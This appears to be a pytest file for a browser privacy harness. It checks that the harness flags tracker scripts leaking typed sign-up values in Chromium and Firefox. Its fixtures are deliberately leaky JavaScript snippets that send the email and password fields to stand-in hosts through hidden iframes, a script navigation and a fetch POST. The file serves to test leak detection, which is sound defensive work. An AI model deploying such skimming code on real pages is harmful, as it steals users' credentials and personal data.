"""Site traffic is identified by what caused it, not by order (harness/privacy/causes.py, rules.py): a page load is the
harness's or the user's navigation, a form's own submission the navigation its submit started; every other request
is scanned, frame navigations and first-party GETs without a query included.

End to end in both browsers: the bundled demo site, a small leaky tracker of our own injected as the snippet, the
real proxy. Each tracker puts a typed value in the *path* of a URL, with no query.
"""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import pytest

from harness.cli import main

SITE = Path(__file__).resolve().parent.parent / "scenarios" / "site"
BROWSERS = ["chromium", "firefox"]
HOSTS = ("https://other.example", "https://shop.test")  # a third party, and the site's own host

# Hidden iframes, one per host, navigated to /c/<value>/f.html; the tracker also says hello, so it is seen to work.
FRAMES_TO = """
var frames = {};
function leak(value) {
  %(hosts)s.forEach(function (host) {
    if (!frames[host]) {
      frames[host] = document.createElement('iframe');
      frames[host].style.display = 'none';
      document.body.appendChild(frames[host]);
    }
    frames[host].src = host + '/c/' + encodeURIComponent(value) + '/f.html';
  });
}
navigator.sendBeacon('https://tracker.test/hello', 'hi');
"""

# (a) after typing: a moment after the last key.
AFTER_TYPING = FRAMES_TO % {"hosts": json.dumps(HOSTS)} + """
var timer;
document.addEventListener('input', function (e) {
  if (e.target.id !== 'signup-email') return;
  clearTimeout(timer);
  var value = e.target.value;
  timer = setTimeout(function () { leak(value); }, 200);
}, true);
"""

# (b) in the submit event: the frame's load starts, and the form's own POST follows a moment later (a tracker that
# holds a submit back to send first; Firefox would drop frame loads started as the page goes). The frame is on the
# site's own host, where a document request after a submit could be taken for the form's own.
AT_SUBMIT = FRAMES_TO % {"hosts": json.dumps(HOSTS[1:])} + """
document.addEventListener('submit', function (e) {
  var form = e.target;
  e.preventDefault();
  leak(document.getElementById('new-password').value);
  setTimeout(function () { form.submit(); }, 150);
}, true);
"""

# (c) the page itself sent to a first-party URL with the value in its path, by script.
SCRIPT_NAVIGATION = """
var timer;
document.addEventListener('input', function (e) {
  if (e.target.id !== 'signup-email') return;
  clearTimeout(timer);
  var value = e.target.value;
  timer = setTimeout(function () { location.assign('/c/' + encodeURIComponent(value) + '/'); }, 300);
}, true);
navigator.sendBeacon('https://tracker.test/hello', 'hi');
"""

TYPE_AND_STAY = """
name: A value typed, then a pause
start: https://shop.test/signup.html
secrets:
  email: "{canary:email}"
steps:
  - type: {selector: "#signup-email", text: "{email}", delay: 20}
  - wait: 1500
  - leave: close
"""

SIGN_UP = """
name: A sign-up posted by its form
start: https://shop.test/signup.html
secrets:
  email: "{canary:email}"
  new_password: "{canary:password}"
steps:
  - type: {selector: "#signup-email", text: "{email}", delay: 20}
  - type: {selector: "#new-password", text: "{new_password}", delay: 20}
  - submit: "#signup-form"
  - expect: {text: "Welcome aboard"}
  - leave: close
"""


def run(tmp_path: Path, engine: str, scenario: str, tracker: str) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    """``telltale run`` of ``scenario`` with ``tracker`` injected as the snippet: the run and its traffic."""
    (tmp_path / "scenario.yaml").write_text(scenario)
    (tmp_path / "tracker.js").write_text(tracker)
    report = tmp_path / "report"
    out, err = io.StringIO(), io.StringIO()
    main(["run", str(tmp_path / "scenario.yaml"), "--site", str(SITE), "--snippet", str(tmp_path / "tracker.js"),
          "--browser", engine, "--report", str(report)], out, err)
    (result,) = json.loads((report / "results.json").read_text())["runs"]
    assert result["error"] in (None, ""), out.getvalue() + err.getvalue()
    traffic = json.loads((report / result["dir"] / "traffic.json").read_text())["requests"]
    return result, traffic


def leaks_at(result: dict[str, Any], path_end: str) -> set[tuple[str, str, str, str]]:
    return {(f["rule"], f["field"], f["channel"], f["url"].split("/c/", 1)[0])
            for f in result["findings"] if f["url"].endswith(path_end) and f["where"] == "url"}


@pytest.mark.parametrize("engine", BROWSERS)
def test_a_frame_navigated_to_a_value_in_its_path_is_caught(tmp_path: Path, engine: str) -> None:
    result, _ = run(tmp_path, engine, TYPE_AND_STAY, AFTER_TYPING)
    assert result["status"] == "failed", result["findings"]
    assert leaks_at(result, "/f.html") == {
        ("not-before-submit", "#signup-email", "document", host) for host in HOSTS
    }, result["findings"]


@pytest.mark.parametrize("engine", BROWSERS)
def test_a_frame_loaded_at_submit_neither_hides_its_leak_nor_takes_the_forms_place(tmp_path: Path, engine: str) -> None:
    result, traffic = run(tmp_path, engine, SIGN_UP, AT_SUBMIT)
    frame_loads = [r["t_ms"] for r in traffic if r["url"].endswith("/f.html")]
    posts = [r["t_ms"] for r in traffic if r["method"] == "POST" and r["url"].endswith("/welcome.html")]
    assert frame_loads and posts and min(frame_loads) < min(posts), traffic  # the frame went first
    assert leaks_at(result, "/f.html") == {("never-sent", "#new-password", "document", HOSTS[1])}, result["findings"]
    # The form's real POST is its own submission: no false alarm on it, however many requests went before it.
    assert not [f for f in result["findings"] if "welcome.html" in f["url"]], result["findings"]


@pytest.mark.parametrize("engine", BROWSERS)
def test_a_page_a_script_sent_to_a_value_in_its_path_is_caught(tmp_path: Path, engine: str) -> None:
    result, traffic = run(tmp_path, engine, TYPE_AND_STAY, SCRIPT_NAVIGATION)
    assert [r for r in traffic if r["channel"] == "document" and "/c/" in r["url"] and "?" not in r["url"]], traffic
    assert leaks_at(result, "/") == {("not-before-submit", "#signup-email", "document", "https://shop.test")}, (
        result["findings"]
    )


# A tracker posting the form's values to the site's own host right after the submit, by fetch: what a SPA's own
# post of its form looks like, except that the browser names the injected snippet as its sender (Chromium only).
FETCH_AT_SUBMIT = """
document.addEventListener('submit', function () {
  fetch('/ingest', {method: 'POST', body: document.getElementById('new-password').value, keepalive: true});
}, true);
navigator.sendBeacon('https://tracker.test/hello', 'hi');
"""


def test_the_snippets_own_fetch_after_a_submit_is_not_the_forms_submission(tmp_path: Path) -> None:
    result, _ = run(tmp_path, "chromium", SIGN_UP, FETCH_AT_SUBMIT)
    found = {(f["rule"], f["field"], f["channel"], f["url"]) for f in result["findings"]}
    assert found == {("never-sent", "#new-password", "fetch", "https://shop.test/ingest")}, result["findings"]
